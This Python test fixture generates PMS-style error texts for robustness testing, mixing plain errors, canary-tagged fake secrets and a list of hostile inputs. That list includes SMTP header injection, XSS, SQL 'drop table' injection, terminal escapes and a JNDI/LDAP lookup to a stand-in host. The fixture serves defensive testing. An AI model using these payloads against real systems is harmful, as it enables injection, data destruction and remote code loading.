"""Error texts as a PMS may give them: plain, hostile, and with secrets that must never be seen again."""
CANARY = "chaoscanary"  # in every planted secret, so that one search finds any of them

PLAIN = ["401 Unauthorized: the refresh token was revoked", "timeout after 30 s", "HTTP 503 from the provider",
         "invalid_grant", "connection reset by peer"]

HOSTILE = [
    "line one\r\nBcc: everybody@elsewhere.test\r\n\r\nbody",
    "\r\n.\r\nMAIL FROM:<x@y.test>\r\n",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "'; drop table notifications; --",
    "\x1b]0;title\x07\x1b[31mred",
    "\u202egnp.exe \u2066bidi\u2069 \ufeff",
    "x" * 20000,
    "\u00e9\u4e16\u754c \U0001f4a5 " * 50,
    "{\"nested\": [" + "[" * 200 + "]}",
    "%s %n %x ${jndi:ldap://x.test/a} {{7*7}}",
]

SECRETS = [
    "login failed for https://sync:{}@pms.test/v1",
    "refused: Authorization: Bearer {}Aa1Bb2Cc3",
    "bad request: api_key={}123456 rejected",
    "{{\"client_secret\": \"{}abc123\"}}",
    "password={}9x",
    "token sk_live_{}00000000 is expired",
]

BAD_PAYLOADS = ["{}", "[]", "\"text\"", "{\"org_id\": 7}", "{\"connection_id\": \"no uuid\"}", "null"]


def failure(rng):
    """An error text and what kind it is."""
    draw = rng.random()
    if draw < 0.85:
        return "plain", rng.choice(PLAIN)
    if draw < 0.93:
        return "hostile text", rng.choice(HOSTILE)
    return "secret in the text", rng.choice(SECRETS).format(CANARY)
